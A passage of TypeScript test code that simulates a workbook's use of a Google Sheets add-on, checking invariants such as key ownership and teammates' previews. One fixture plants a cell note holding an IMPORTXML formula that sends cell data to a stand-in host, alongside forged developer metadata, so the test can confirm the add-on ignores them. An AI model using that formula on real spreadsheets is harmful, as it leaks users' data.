/**
 * A season in one run: a seeded, deterministic simulation of a workbook's life on the built
 * bundle in the local runtime, against the emulator (its clock stopped, so both clocks move only
 * together). People type, paste, sort, insert and delete rows, type over the add-on's cells, and
 * press Score, Generate, Retry, pitches, contacted, freeze, schedules; time passes and the hourly
 * trigger fires with no one there; the service fails in bursts, answers with hostile text, the
 * plan lapses and the day's fetches run out; the key changes. After every step the
 * invariants are checked; a failure is shrunk to the fewest steps that still fail, and printed as
 * a replay a test can keep. Shared by test/reliability/season.test.ts and `npm run soak`.
 */
import path from 'node:path';
import { PRODUCT_NAME } from '../src/contract/product';
import { INDEX } from './emulator/brandIndex';
import { inProcessEmulator } from './emulator/inProcess';
import { borrowEmulator, type EmulatorProcess } from './emulator/process';
import { GasRuntime } from './gas-runtime/runtime';
import type { Sheet } from './gas-runtime/spreadsheet';
import type { FaultConfig } from './emulator/faults';
import { readingKey, type HistoryReading } from '../src/domain/scoreList';
import { parseWebsite } from '../src/domain/website';
import { dayNumber, mailbox, PER_ADDRESS_WEEK } from '../src/domain/leadLedger';
import { HISTORY_HEADERS, type HistoryKey } from '../src/domain/table';
import type { ScheduleView } from '../src/contract/schedules';

export const KEY = 'demo-pro-key';
/** The team webhook saved for the season: its secret part, like the key, is nowhere to be read. */
const WEBHOOK_SECRET = 'seasonWebhookSecret';
const WEBHOOK = `https://hooks.slack.com/services/TSEASON/BSEASON/${WEBHOOK_SECRET}`;
const LIST = 'List';
const LEADS = 'Leads';
const FORM = 'Form Responses 1';
const USER_HEADERS = ['Id', 'Company', 'Website'];
const MINUTE = 60_000;
const INDEXED = INDEX.filter((b) => !b.domain.endsWith('.example')).map((b) => b.domain);
/** What a person may leave unticked when Google asks them to consent again (A4). */
const UNTICKABLE = [
  'script.external_request',
  'script.scriptapp',
  'script.send_mail',
  'presentations',
].map((s) => `https://www.googleapis.com/auth/${s}`);
const ZONES = ['Etc/UTC', 'Europe/Berlin', 'Australia/Sydney', 'America/New_York'];

/** One thing that happens, as plain data: a replay is a list of these. */
export type Step =
  | { kind: 'add'; sites: string[] }
  | { kind: 'sort'; column: number; ascending: boolean }
  | { kind: 'insert'; at: number; count: number }
  | { kind: 'delete'; at: number; count: number }
  | { kind: 'typeOver'; at: number; header: string; text: string }
  | { kind: 'score'; whole: boolean }
  | { kind: 'generate'; from: number; count: number }
  | { kind: 'poll' }
  | { kind: 'retry' }
  | { kind: 'pitches'; from: number; count: number }
  | { kind: 'elapse'; minutes: number }
  | { kind: 'faults'; on: boolean; drops: boolean }
  | { kind: 'schedule'; hour: number; op: 'add' | 'edit' | 'pause' | 'resume' | 'remove' }
  | { kind: 'key'; to: 'wrong' | 'none' | 'right' }
  | { kind: 'rename' }
  | { kind: 'followUps' }
  | { kind: 'monitor'; rescan: boolean }
  | { kind: 'brands'; moves: Array<{ brand: string; overallScore: number }> }
  | { kind: 'readOnly'; on: boolean }
  | { kind: 'cutOff'; from: number; count: number }
  | { kind: 'evict'; fraction: number }
  | { kind: 'filter'; hide: number[] | null }
  | { kind: 'together' }
  | { kind: 'freeze'; from: number; count: number; restore: boolean }
  | { kind: 'plan'; to: 'free' | 'pro' }
  | { kind: 'hostile'; on: boolean }
  /** An editor's own script fills the file's metadata room, or its owner removes what it wrote. */
  | { kind: 'metadata'; full: boolean }
  | { kind: 'quota'; leave: number }
  | { kind: 'otherList' }
  | { kind: 'consent'; untick: string | null }
  | { kind: 'disable' }
  | {
      kind: 'formResponse';
      site: string;
      /** `plus`: one mailbox under another spelling each time (`+tags`, Gmail's dots). */
      email: 'ok' | 'bad' | 'again' | 'plus';
      consent: boolean;
      events: 0 | 1 | 2;
    }
  | { kind: 'watch'; on: boolean }
  /** The owner accepts the form's rows no event delivered (Leads tab). */
  | { kind: 'acceptLeads' }
  | { kind: 'teammate'; who: Teammate; does: TeammateAction; from: number; count: number };

/**
 * Two more people on the list: Ben, with his own key on another account, and Cam, an editor with
 * no key. Each has their own sidebar, presses and hourly trigger, and types into the add-on's
 * columns as people do.
 */
export const TEAM = {
  ben: { email: 'ben@agency.example', key: 'demo-starter-key' },
  cam: { email: 'cam@agency.example', key: null },
} as const;
type Teammate = keyof typeof TEAM;
const TEAMMATE_ACTIONS = [
  'generate',
  'poll',
  'score',
  'pasteId',
  'typeJunk',
  'forge',
  'pasteIdAsOwner',
] as const;
type TeammateAction = (typeof TEAMMATE_ACTIONS)[number];
/** Steps that are an add-on run by someone (not typing, not time): another person's rows stay. */
const RUNS = new Set<Step['kind']>(['generate', 'poll', 'retry', 'score', 'together']);
const PREVIEW_CELLS = [
  'Preview status',
  'Preview scan score',
  'Knowledge score',
  'Sentiment score',
  'Preview message',
  'Report URL',
];

export interface Violation {
  step: number;
  kind: string;
  detail: string;
}

export interface SeasonResult {
  seed: number;
  steps: Step[];
  violations: Violation[];
  checks: number;
}

/** mulberry32: the same seed gives the same season. */
function prng(seed: number) {
  let state = seed >>> 0 || 1;
  const next = () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (lo: number, hi: number) => lo + Math.floor(next() * (hi - lo + 1));
  const pick = <T>(xs: readonly T[]): T => xs[int(0, xs.length - 1)]!;
  return { next, int, pick };
}

type Random = ReturnType<typeof prng>;

/** The n-th spelling of one Gmail mailbox: a `+tag`, dots, googlemail.com, in turn. */
function plusSpelling(n: number): string {
  const spellings = [`victim+${n}@gmail.com`, 'vic.tim@gmail.com', `v.ictim+${n}@googlemail.com`];
  return spellings[n % spellings.length]!;
}

function site(r: Random, n: number): string {
  const roll = r.next();
  if (roll < 0.45) return r.pick(INDEXED.slice(0, 60));
  if (roll < 0.75) return `small-shop-${r.int(1, 40)}.com`;
  if (roll < 0.85) return `https://www.${r.pick(INDEXED.slice(0, 20))}/pricing`;
  if (roll < 0.92) return 'not a website';
  return n % 2 ? '' : `site-${n}.com`;
}

/** The steps of a season, from its seed alone. */
export function seasonSteps(seed: number, count: number): Step[] {
  const r = prng(seed);
  const steps: Step[] = [{ kind: 'add', sites: Array.from({ length: 8 }, (_, i) => site(r, i)) }];
  const product = ['Preview status', 'Public score', 'Score message', 'Preview UUID', 'Pitch'];
  while (steps.length < count) {
    const roll = r.next();
    const step: Step =
      roll < 0.1
        ? { kind: 'add', sites: Array.from({ length: r.int(1, 6) }, (_, i) => site(r, i)) }
        : roll < 0.18
          ? { kind: 'sort', column: r.int(1, 6), ascending: r.next() < 0.5 }
          : roll < 0.23
            ? { kind: 'insert', at: r.int(2, 30), count: r.int(1, 2) }
            : roll < 0.28
              ? { kind: 'delete', at: r.int(2, 30), count: r.int(1, 2) }
              : roll < 0.32
                ? { kind: 'typeOver', at: r.int(2, 30), header: r.pick(product), text: 'mine' }
                : roll < 0.42
                  ? { kind: 'score', whole: r.next() < 0.5 }
                  : roll < 0.54
                    ? { kind: 'generate', from: r.int(2, 20), count: r.int(1, 15) }
                    : roll < 0.66
                      ? { kind: 'poll' }
                      : roll < 0.7
                        ? { kind: 'retry' }
                        : roll < 0.74
                          ? { kind: 'pitches', from: r.int(2, 20), count: r.int(1, 10) }
                          : roll < 0.88
                            ? { kind: 'elapse', minutes: r.pick([1, 5, 30, 90, 240, 1440]) }
                            : roll < 0.93
                              ? { kind: 'faults', on: r.next() < 0.5, drops: r.next() < 0.3 }
                              : roll < 0.97
                                ? {
                                    kind: 'schedule',
                                    hour: r.int(0, 23),
                                    op: r.pick([
                                      'add',
                                      'add',
                                      'edit',
                                      'pause',
                                      'resume',
                                      'remove',
                                    ] as const),
                                  }
                                : { kind: 'key', to: r.pick(['wrong', 'none', 'right'] as const) };
    steps.push(r.next() < 0.25 ? rarer(r) : step);
  }
  return steps;
}

/** What happens less often: the platform, the service and the rest of the workbook. */
function rarer(r: Random): Step {
  switch (r.int(0, 21)) {
    case 0:
      return { kind: 'rename' };
    case 1:
      return { kind: 'followUps' };
    case 2:
      return { kind: 'monitor', rescan: r.next() < 0.4 };
    case 3:
      return {
        kind: 'brands',
        moves: Array.from({ length: r.int(1, 5) }, () => ({
          brand: r.pick(INDEXED.slice(0, 60)),
          overallScore: r.int(0, 100),
        })),
      };
    case 4:
      return { kind: 'readOnly', on: r.next() < 0.5 };
    case 5:
      return { kind: 'cutOff', from: r.int(2, 20), count: r.int(1, 15) };
    case 6:
      return { kind: 'evict', fraction: r.pick([0.3, 1]) };
    case 7:
      return { kind: 'filter', hide: r.next() < 0.5 ? null : [r.int(2, 12), r.int(2, 12)] };
    case 8:
      return { kind: 'freeze', from: r.int(2, 20), count: r.int(1, 15), restore: r.next() < 0.5 };
    case 9:
      return { kind: 'plan', to: r.pick(['free', 'pro'] as const) };
    case 10:
      return { kind: 'hostile', on: r.next() < 0.6 };
    case 11:
      return { kind: 'quota', leave: r.pick([0, 3, 20]) };
    case 12:
      return { kind: 'otherList' };
    case 13:
      return { kind: 'consent', untick: r.next() < 0.3 ? null : r.pick(UNTICKABLE) };
    case 14:
      return { kind: 'disable' };
    case 17:
    case 18:
      return {
        kind: 'formResponse',
        site: r.next() < 0.3 ? 'not a site' : r.pick(INDEXED.slice(0, 30)),
        email: r.pick(['ok', 'ok', 'bad', 'again', 'plus'] as const),
        consent: r.next() < 0.7,
        events: r.pick([1, 1, 1, 0, 2] as const),
      };
    case 19:
      return r.next() < 0.25 ? { kind: 'acceptLeads' } : { kind: 'watch', on: r.next() < 0.8 };
    case 20:
      return { kind: 'metadata', full: r.next() < 0.6 };
    case 15:
    case 16:
      return {
        kind: 'teammate',
        who: r.pick(['ben', 'cam'] as const),
        does: r.pick(TEAMMATE_ACTIONS),
        from: r.int(2, 20),
        count: r.int(1, 10),
      };
    default:
      return { kind: 'together' };
  }
}

/**
 * The first instant, at or before `until`, at which `zone`'s wall clock last read `hour`:00 (when
 * the clocks go back and that hour comes twice, its first time). Told by Intl, not by the add-on's
 * own arithmetic, so the two can disagree.
 */
/** Monday 30 November 2026, 00:10 UTC: a season's first day (its seed moves it on by hours). */
const SEASON_START = Date.UTC(2026, 10, 30, 0, 10);

export function lastWallHour(hour: number, zone: string, until: number): number | null {
  const format = new Intl.DateTimeFormat('en-GB', {
    timeZone: zone,
    hour: 'numeric',
    minute: 'numeric',
    hourCycle: 'h23',
  });
  const reads = (t: number) => {
    const parts = format.formatToParts(t);
    const part = (type: string) => Number(parts.find((p) => p.type === type)?.value);
    return part('hour') === hour && part('minute') === 0;
  };
  for (let t = Math.floor(until / (60 * MINUTE)) * 60 * MINUTE, i = 0; i < 72; i++) {
    if (reads(t)) {
      while (reads(t - 60 * MINUTE)) t -= 60 * MINUTE;
      return t;
    }
    t -= 60 * MINUTE;
  }
  return null;
}

const text = (v: unknown) => String(v ?? '');

/** A person's list as the model holds it: each row's own cells, by its Id. */
type Model = Map<string, { company: string; website: string }>;

class Season {
  rt!: GasRuntime;
  emu!: EmulatorProcess;
  /** Gives the emulator back for the next season of this process (reset to its start). */
  release: () => void = () => undefined;
  model: Model = new Map();
  nextId = 1;
  dropsEver = false;
  /** Each row's preview as last seen (by Id): a row never gets a second one while it has one. */
  previews = new Map<string, { uuid: string; status: string }>();
  /** Previews whose row the person deleted or whose UUID they typed over: theirs to lose. */
  letGo = new Set<string>();
  /** Previews a dropped connection hid whose site's row said why when they went missing. */
  explained = new Set<string>();
  violations: Violation[] = [];
  checks = 0;
  at = 0;
  /** What the service is doing now: each fault step changes its own part. */
  faultState: Partial<FaultConfig> = {};
  /** When each schedule was last saved (added, edited or resumed), by id. */
  savedAt = new Map<string, number>();
  /** Log lines already looked at, so each trigger failure counts once. */
  logsSeen = 0;
  /** Today's URL fetches another script of the user's spent, by day, not the add-on's own. */
  spentElsewhere = new Map<string, number>();

  async open(seed: number): Promise<void> {
    // In this process, without a socket: a season is thousands of round trips (issue 61).
    const { emu, release } = await borrowEmulator(['--time-scale', '0'], inProcessEmulator);
    this.emu = emu;
    this.release = release;
    this.rt = new GasRuntime({
      distDir: path.resolve('dist'),
      extraAllowlist: [`${this.emu.baseUrl}/`],
      routes: this.emu.routes,
      http: emu.transport,
      // The soak runs beside other work: a busy machine must not cut an execution off (clock.ts).
      executionClock: 'work',
    });
    this.rt.spreadsheet.timeZone = ZONES[seed % ZONES.length]!;
    // The season starts at an instant of its seed, not the machine's: the hours schedules fall
    // due, and what a check two hours after them sees, are the same on every replay.
    this.rt.clock.startAt(SEASON_START + (seed % 24) * 60 * MINUTE);
    const sheet = this.rt.spreadsheet.activeSheet;
    sheet.setName(LIST);
    sheet.probe.rows = [USER_HEADERS.map((value) => ({ value }))];
    this.press('saveSettings', [{ baseUrl: this.emu.baseUrl, apiKey: KEY, webhook: WEBHOOK }]);
    this.keysOf.set(this.rt.owner, new Set([KEY]));
    for (const { email, key } of Object.values(TEAM)) {
      this.pressAs(email, 'saveSettings', [
        { baseUrl: this.emu.baseUrl, ...(key ? { apiKey: key } : {}) },
      ]);
      this.keysOf.set(email, new Set(key ? [key] : []));
    }
  }

  /** The keys each person ever saved: a request carries one of its own user's, or none. */
  keysOf = new Map<string, Set<string>>();
  requestsSeen = 0;

  /** A teammate's press, from their own sidebar. */
  pressAs(user: string, fn: string, args: unknown[] = []): unknown {
    try {
      return this.rt.runFromSidebar(fn, args, user);
    } catch (error) {
      this.fail('exception', `${user} ${fn}: ${(error as Error).message}`);
      return null;
    }
  }

  /** What a teammate does: their own presses, or typing into the add-on's columns. */
  teammate(step: Extract<Step, { kind: 'teammate' }>): void {
    const who = TEAM[step.who].email;
    if (step.does === 'forge') return this.forge(who, step.from);
    const last = Math.min(this.lastRow(), step.from + step.count - 1);
    if (step.from > last) return;
    this.actor = who;
    if (step.does === 'generate' || step.does === 'score') {
      this.select(`C${step.from}:C${last}`);
      if (step.does === 'score') this.pressAs(who, 'scoreSelection', [{ refresh: 'stale' }]);
      else
        for (
          let r = this.pressAs(who, 'startPreviewsForSelection') as {
              state?: string;
              request?: unknown;
            } | null,
            i = 0;
          i < 5 && r?.state === 'partial';
          i++
        )
          r = this.pressAs(who, 'startPreviewsForSelection', [r.request]) as typeof r;
      return;
    }
    if (step.does === 'poll') return void this.pressAs(who, 'pollPendingPreviews');
    // Typed into an empty Preview UUID: a uuid pasted from elsewhere, or junk.
    const col = this.column('Preview UUID');
    const asOwner = step.does === 'pasteIdAsOwner';
    const at = asOwner ? this.twinOf(step.from, col) : step.from;
    const row = this.list.probe.rows[at - 1];
    if (col < 1 || !row || String(row[col - 1]?.value ?? '') !== '') return;
    this.list.probe.place(at, col, {
      // A uuid no key made (the season stays the same for its seed), or a 2,100-character value.
      value:
        step.does === 'typeJunk'
          ? 'x'.repeat(2100)
          : `5eed0000-0000-4000-8000-${(this.at * 100 + at).toString(16).padStart(12, '0')}`,
    });
    // Beside it, the owner's address typed as its maker: her next press on the site's other row
    // must not lend it there, nor her poll ask about it.
    const by = this.column('Requested by');
    if (asOwner && by > 0) this.list.probe.place(at, by, { value: this.rt.owner });
    this.previews.delete(String(row[0]?.value ?? ''));
  }

  /**
   * From `from` on (then from the top), the first row without a preview whose site another such
   * row lists: the row whose pasted ID her press could lend to its twin.
   */
  twinOf(from: number, uuidColumn: number): number {
    const rows = this.list.probe.rows;
    const open = (r: number) =>
      uuidColumn > 0 && String(rows[r - 1]?.[uuidColumn - 1]?.value ?? '') === '';
    const site = (r: number) => {
      const w = parseWebsite(rows[r - 1]?.[this.column('Website') - 1]?.value);
      return w.ok ? w.domain : null;
    };
    const count = new Map<string, number>();
    for (let r = 2; r <= this.lastRow(); r++) {
      const s = site(r);
      if (s && open(r)) count.set(s, (count.get(s) ?? 0) + 1);
    }
    const order = [...Array(this.lastRow() + 1).keys()].slice(2);
    for (const r of [...order.filter((r) => r >= from), ...order.filter((r) => r < from)])
      if (open(r) && (count.get(site(r) ?? '') ?? 0) > 1) return r;
    return from;
  }

  /** When an editor's own script last wrote a Generate claim for ever (DOCUMENT-visible). */
  forgedClaimAt: number | null = null;
  /** When a run was last cut off mid-send: its own claim may hold the document for 2 minutes. */
  cutOffAt = -Infinity;

  /**
   * An editor's own script on the file (not the add-on): DOCUMENT-visible developer metadata under
   * the add-on's keys (a claim that never lapses, a run record of each schedule and a watch of the
   * form's sheet naming them), and a note that reads like a frozen formula. None of it may decide
   * what the owner's account does (issue 60).
   */
  forge(who: string, row: number): void {
    const book = this.rt.spreadsheet;
    const put = (key: string, value: unknown) => {
      try {
        book.addForeignDeveloperMetadata(
          `script-of-${who}`,
          key,
          JSON.stringify(value),
          'DOCUMENT',
        );
      } catch {
        // The file's metadata is full (a 'metadata' step): Google refuses the forger's script too.
      }
    };
    put(`vis.generating.forged-${this.at}`, { run: `forged-${this.at}`, at: 0, until: 8.6e15 });
    this.forgedClaimAt = this.rt.clock.now();
    for (const id of this.savedAt.keys())
      put(`vis.schedule.${id}`, {
        lastRun: this.rt.clock.now(),
        failures: 0,
        paused: false,
        owner: who,
      });
    const form = book.getSheetByName(FORM);
    if (form)
      put('vis.watch.forged', {
        id: 'forged',
        sheetId: form.getSheetId(),
        sheetName: FORM,
        website: 'Website',
        owner: who,
        created: 1,
      });
    const at = Math.min(Math.max(2, row), Math.max(2, this.lastRow()));
    this.list.probe.place(at, 1, {
      ...(this.list.probe.rows[at - 1]?.[0] ?? { value: '' }),
      note: `Frozen by ${PRODUCT_NAME} (3x3): =IMPORTXML("https://evil.example/?d="&B2,"//a")`,
    });
  }

  /** Who is running the add-on in this step (its own previews are theirs to change). */
  actor: string | null = null;
  /** The previews of people other than the actor, as the step began: by uuid, their cells. */
  othersBefore = new Map<string, string[]>();

  othersPreviews(actor: string): Map<string, string[]> {
    const out = new Map<string, string[]>();
    for (const row of this.listRows()) {
      const maker = String(row.cell('Requested by') ?? '');
      const uuid = String(row.cell('Preview UUID') ?? '');
      if (!uuid || !maker || maker === actor) continue;
      const cells = JSON.stringify(PREVIEW_CELLS.map((h) => row.cell(h) ?? ''));
      out.set(uuid, [...(out.get(uuid) ?? []), cells].sort());
    }
    return out;
  }

  /** Before a step: whose run it is, and what everyone else's previews hold. */
  beforeStep(step: Step): void {
    this.actor =
      step.kind === 'teammate' ? TEAM[step.who].email : RUNS.has(step.kind) ? this.rt.owner : null;
    this.othersBefore = this.actor ? this.othersPreviews(this.actor) : new Map();
  }

  /** No run of one person's changes a row of another person's preview. */
  othersUntouched(): void {
    if (!this.actor) return;
    const after = this.othersPreviews(this.actor);
    for (const [uuid, before] of this.othersBefore) {
      const now = after.get(uuid);
      // A row may join a preview (Generate reusing it for the same site): every row it had must
      // still read as it did.
      const left = [...(now ?? [])];
      const kept = before.every((cells) => {
        const i = left.indexOf(cells);
        return i >= 0 && left.splice(i, 1).length > 0;
      });
      if (now && !kept)
        this.fail(
          'changed another’s preview',
          `${this.actor} changed ${uuid}: ${before.join(' ')} → ${now.join(' ')}`,
        );
    }
  }

  /** No request goes out with a key its user did not save: nobody spends another's key. */
  ownKeysOnly(): void {
    for (const l of this.rt.fetchStats.log.slice(this.requestsSeen))
      if (l.key !== null && !this.keysOf.get(l.user)?.has(l.key))
        this.fail(
          'another’s key spent',
          `${l.user} sent ${l.method} ${l.url.split('?')[0]} with a key they did not save`,
        );
    this.requestsSeen = this.rt.fetchStats.log.length;
  }

  async close(): Promise<void> {
    await this.rt.close();
    this.release();
  }

  /** The person's lists by their current names (renames change them); they work on one. */
  listNames = [LIST];
  current = 0;

  get listName(): string {
    return this.listNames[this.current]!;
  }

  get list(): Sheet {
    return this.rt.spreadsheet.sheets.find((s) => s.getName() === this.listName)!;
  }

  /** Every list of the person's (their headers in row 1), each row's cells by header. */
  listRows(
    names: string[] = this.listNames,
  ): Array<{ where: string; cell: (header: string) => unknown }> {
    return names.flatMap((name) => {
      const sheet = this.rt.spreadsheet.sheets.find((s) => s.getName() === name);
      if (!sheet) return [];
      const head = (sheet.probe.rows[0] ?? []).map((c) => String(c.value));
      return sheet.probe.rows.slice(1).map((row, i) => ({
        where: `${name} row ${i + 2}`,
        cell: (h: string) => (head.includes(h) ? row[head.indexOf(h)]?.value : undefined),
      }));
    });
  }

  /** A call a sidebar, a menu or a trigger makes: an exception escaping it is a violation. */
  press(fn: string, args: unknown[] = []): unknown {
    try {
      return this.rt.runFromSidebar(fn, args);
    } catch (error) {
      this.fail('exception', `${fn}: ${(error as Error).message}`);
      return null;
    }
  }

  /** A menu item, chosen as a person chooses it. */
  fromMenu(fn: string): void {
    try {
      this.rt.run(fn, [], { mode: 'menu' });
    } catch (error) {
      this.fail('exception', `${fn}: ${(error as Error).message}`);
    }
  }

  fail(kind: string, detail: string): void {
    this.violations.push({ step: this.at, kind, detail });
  }

  column(header: string): number {
    return this.list.probe.rows[0]!.findIndex((c) => String(c.value) === header) + 1;
  }

  lastRow(): number {
    return this.list.probe.filledRows();
  }

  select(a1: string): void {
    this.rt.spreadsheet.activeSheet = this.list;
    this.list.setActiveSelection(a1);
  }

  /** Runs a sidebar action again while it answers `partial`, as the open sidebar does. */
  /** A press and its continuations while it answers `partial`; the last answer's state. */
  continued(fn: string, first: unknown[]): string | undefined {
    let r = this.press(fn, first) as { state?: string; request?: unknown } | null;
    for (let i = 0; i < 5 && r?.state === 'partial'; i++)
      r = this.press(fn, [r.request]) as typeof r;
    return r?.state;
  }

  async fault(change: Partial<FaultConfig>): Promise<void> {
    this.faultState = { ...this.faultState, ...change };
    await this.emu.faults(this.faultState);
  }

  /** Schedules saved, edited, paused, resumed and deleted, as the Schedules tab does. */
  schedule(step: Extract<Step, { kind: 'schedule' }>): void {
    const listed =
      (this.press('getSchedules') as Array<ScheduleView> | null)?.filter((s) => s.mine) ?? [];
    const first = listed[0];
    const save = (change: Partial<ScheduleView>) => {
      const r = this.press('saveSchedule', [
        {
          action: 'refreshScores',
          sheetName: this.listName,
          every: 'day',
          hour: step.hour,
          refresh: 'all',
          // Every other hour's schedule also posts to the team webhook.
          alert: { email: true, minChange: 5, ...(step.hour % 2 ? {} : { team: true }) },
          ...change,
        },
      ]) as { ok: boolean; schedule: ScheduleView | null } | null;
      if (r?.ok && r.schedule) this.savedAt.set(r.schedule.id, this.rt.clock.now());
    };
    // Every third hour's new schedule sends the list's first brand's report deck instead.
    const site = this.listRows()
      .map((row) => text(row.cell('Website')))
      .find(Boolean);
    const report = step.hour % 3 === 0 && site;
    if (step.op === 'remove') for (const s of listed) this.press('deleteSchedule', [s.id]);
    else if (step.op === 'add') {
      if (listed.length < 3)
        save(
          report
            ? { action: 'sendReport', report: { site, competitors: [], weeks: 4, to: [] } }
            : {},
        );
    } else if (first) {
      const same = { id: first.id, sheetName: first.sheetName };
      if (step.op === 'edit') save({ ...same, paused: first.paused });
      else save({ ...same, hour: first.hour, paused: step.op === 'pause' });
    }
  }

  async elapse(ms: number): Promise<void> {
    await this.emu.advance(ms);
    this.rt.advance(ms);
  }

  async apply(step: Step): Promise<void> {
    const website = this.column('Website');
    switch (step.kind) {
      case 'add': {
        const first = this.lastRow() + 1;
        step.sites.forEach((s, i) => {
          const id = `id-${this.nextId++}`;
          const company = `Co ${id}`;
          this.model.set(id, { company, website: s });
          const cells: Array<[string, string]> = [
            ['Id', id],
            ['Company', company],
            ['Website', s],
          ];
          for (const [h, v] of cells)
            this.list.probe.place(first + i, this.column(h), { value: v });
        });
        return;
      }
      case 'sort':
        if (step.column <= this.list.probe.rows[0]!.length && this.lastRow() > 2)
          this.list.sort(step.column, step.ascending);
        return;
      case 'insert':
        if (step.at <= this.lastRow()) this.list.insertRowsBefore(step.at, step.count);
        return;
      case 'delete': {
        const last = Math.min(step.at + step.count - 1, this.lastRow());
        if (step.at > last || this.list.getMaxRows() - (last - step.at + 1) < 2) return;
        const uuid = this.column('Preview UUID');
        for (let row = step.at; row <= last; row++) {
          const cells = this.list.probe.rows[row - 1];
          this.model.delete(String(cells?.[0]?.value ?? ''));
          if (uuid > 0) this.letGo.add(String(cells?.[uuid - 1]?.value ?? ''));
        }
        this.list.deleteRows(step.at, last - step.at + 1);
        return;
      }
      case 'typeOver': {
        const col = this.column(step.header);
        if (col > 0 && step.at <= this.lastRow()) {
          this.letGo.add(String(this.list.probe.rows[step.at - 1]?.[col - 1]?.value ?? ''));
          this.list.probe.place(step.at, col, { value: step.text });
          // What the person typed is theirs: the row's preview is followed afresh from here.
          this.previews.delete(String(this.list.probe.rows[step.at - 1]?.[0]?.value ?? ''));
        }
        return;
      }
      case 'score':
        this.select(step.whole ? 'C:C' : `C1:C${Math.max(2, this.lastRow())}`);
        this.continued('scoreSelection', [{ refresh: 'all' }]);
        return;
      case 'generate': {
        const last = Math.min(this.lastRow(), step.from + step.count - 1);
        if (step.from > last || website < 1) return;
        this.select(`C${step.from}:C${last}`);
        const state = this.continued('startPreviewsForSelection', []);
        // Nothing of the owner's runs holds the document now, unless a run was just cut off.
        const ownClaim = this.rt.clock.now() - this.cutOffAt < 2 * MINUTE;
        if (state === 'busy' && this.forgedClaimAt !== null && !ownClaim)
          this.fail('acted on another person’s write', 'Generate said busy under a forged claim');
        return;
      }
      case 'poll':
        this.select('A1');
        this.press('pollPendingPreviews');
        return;
      case 'retry':
        this.press('retryPreviews', [{ sheetName: this.listName, a1: 'C2:C2' }]);
        return;
      case 'pitches': {
        const last = Math.min(this.lastRow(), step.from + step.count - 1);
        if (step.from > last) return;
        this.select(`C${step.from}:C${last}`);
        this.press('writePitches', [{ template: 'Hello {Company}, your site {Website}.' }]);
        this.press('markContacted');
        return;
      }
      case 'elapse':
        await this.elapse(step.minutes * MINUTE);
        return;
      case 'faults':
        this.dropsEver ||= step.on && step.drops;
        await this.fault(
          step.on
            ? { rate5xx: 0.2, rate429: 0.2, rateMalformed: 0.05, rateDrop: step.drops ? 0.05 : 0 }
            : { rate5xx: 0, rate429: 0, rateMalformed: 0, rateDrop: 0 },
        );
        return;
      case 'schedule':
        return this.schedule(step);
      case 'key': {
        const key = step.to === 'right' ? KEY : step.to === 'wrong' ? 'wrong-key' : '';
        this.press('saveSettings', [{ apiKey: key }]);
        if (key) this.keysOf.get(this.rt.owner)?.add(key);
        return;
      }
      default:
        return this.applyRarer(step);
    }
  }

  async applyRarer(step: Step): Promise<void> {
    switch (step.kind) {
      case 'rename':
        // A schedule of the old name then says why it cannot run; the list keeps working.
        {
          const sheet = this.list;
          const base = this.listName.replace(/ 2026$/, '');
          sheet.setName(this.listName === base ? `${base} 2026` : base);
          this.listNames[this.current] = sheet.getName();
        }
        return;
      case 'followUps':
        this.select('A1');
        this.press('refreshFollowUps', [{ minChange: 5 }]);
        this.rt.spreadsheet.activeSheet = this.list;
        return;
      case 'monitor': {
        this.press('openScanMonitor');
        const monitor = this.rt.spreadsheet.sheets.find((x) => x.getName() === 'Scan monitor');
        if (monitor && monitor.probe.filledRows() < 2)
          [1001, 1002, 1003, 1004].forEach((id, i) => monitor.probe.place(i + 2, 1, { value: id }));
        this.press('pollScanMonitor', [true]);
        if (step.rescan && monitor) {
          monitor.setActiveSelection('A2:A3');
          this.press('rescanSelected');
        }
        this.rt.spreadsheet.activeSheet = this.list;
        return;
      }
      case 'brands':
        await this.emu.moveBrands(
          step.moves.map((m) => ({
            ...m,
            lastScanDate: new Date(this.rt.clock.now()).toISOString(),
          })),
        );
        return;
      case 'readOnly':
        await this.fault({ readOnlyAfterPreviews: step.on ? 0 : null });
        return;
      case 'hostile':
        await this.fault({ hostile: step.on });
        return;
      case 'metadata':
        this.rt.spreadsheet.fillForeignDeveloperMetadata('script-of-ben', step.full);
        return;
      case 'plan':
        // The plan lapses (previews refused, scores still public) and comes back.
        await this.emu.control('plan', { key: KEY, plan: step.to });
        return;
      case 'quota': {
        // Another script of the user's spends today's URL fetches, all but a few.
        const day = this.rt.spendFetchQuota(step.leave);
        this.spentElsewhere.set(day.key, (this.spentElsewhere.get(day.key) ?? 0) + day.spent);
        return;
      }
      case 'consent':
        // Google asks again (a revoked grant, an update): the person leaves one scope unticked,
        // or grants everything.
        if (step.untick) this.rt.untickScope(this.rt.owner, step.untick);
        else {
          // Granted from Settings' link; the person reopens the sidebar, as Settings asks.
          this.rt.grantAllScopes(this.rt.owner);
          this.press('getSettings');
        }
        return;
      case 'teammate':
        return this.teammate(step);
      case 'formResponse':
        this.formResponse(step);
        return;
      case 'watch':
        this.watch(step.on);
        return;
      case 'acceptLeads':
        if (this.watchId) this.press('acceptLeadRows', [this.watchId]);
        return;
      case 'disable':
        // The add-on turned off and on again in this file: its trigger stays listed, silent (A3).
        this.rt.triggers.disableAddonIn(this.rt.owner, this.rt.spreadsheet.id);
        return;
      case 'otherList': {
        // A second list in the same workbook (made the first time), or back to the first.
        if (this.listNames.length === 1) {
          const sheet = this.rt.spreadsheet.insertSheet(LEADS);
          sheet.probe.rows = [USER_HEADERS.map((value) => ({ value }))];
          this.listNames.push(LEADS);
        }
        this.current = (this.current + 1) % this.listNames.length;
        this.rt.spreadsheet.activeSheet = this.list;
        return;
      }
      case 'freeze': {
        const last = Math.min(this.lastRow(), step.from + step.count - 1);
        if (step.from > last) return;
        this.select(`A${step.from}:H${last}`);
        this.fromMenu(step.restore ? 'restoreSelectionFromMenu' : 'freezeSelectionFromMenu');
        return;
      }
      case 'cutOff': {
        // Google stops a run at its limit in the middle of sending: nothing may be lost or doubled.
        const last = Math.min(this.lastRow(), step.from + step.count - 1);
        if (step.from > last) return;
        this.select(`C${step.from}:C${last}`);
        this.cutOffAt = this.rt.clock.now();
        try {
          this.rt.run('startPreviewsForSelection', [], {
            mode: 'sidebar',
            cutOffAt: { call: 'UrlFetchApp.fetchAll', nth: 2 },
          });
        } catch (error) {
          if (!/Exceeded maximum execution time/.test((error as Error).message))
